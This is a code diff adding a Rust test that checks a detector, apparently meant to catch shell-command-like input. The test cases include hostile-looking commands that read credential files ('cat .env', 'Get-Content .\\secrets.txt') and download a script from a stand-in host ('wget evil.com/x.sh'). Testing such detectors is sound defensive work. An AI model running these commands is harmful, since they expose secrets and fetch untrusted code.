@@ -659,3 +659,31 @@ fn sentences_headings_and_sentence_ends() {
         assert!(hit(v), "missed {v:?}");
     }
 }
+
+#[test]
+fn whole_command_lines() {
+    for v in [
+        "ls",
+        "pwd",
+        "cat config.php",
+        "cat .env",
+        "type file.txt",
+        "wget evil.com/x.sh",
+        "Get-Process | Select-Object Name",
+        "Get-Content .\\secrets.txt",
+    ] {
+        assert!(hit(v), "missed {v:?}");
+    }
+    for v in [
+        "LS",
+        "Pwd",
+        "Cat food.txt",
+        "cat food is great",
+        "type here",
+        "more .env files",
+        "wget is a tool",
+        "format-list of items",
+    ] {
+        assert!(!hit(v), "flagged {v:?}");
+    }
+}
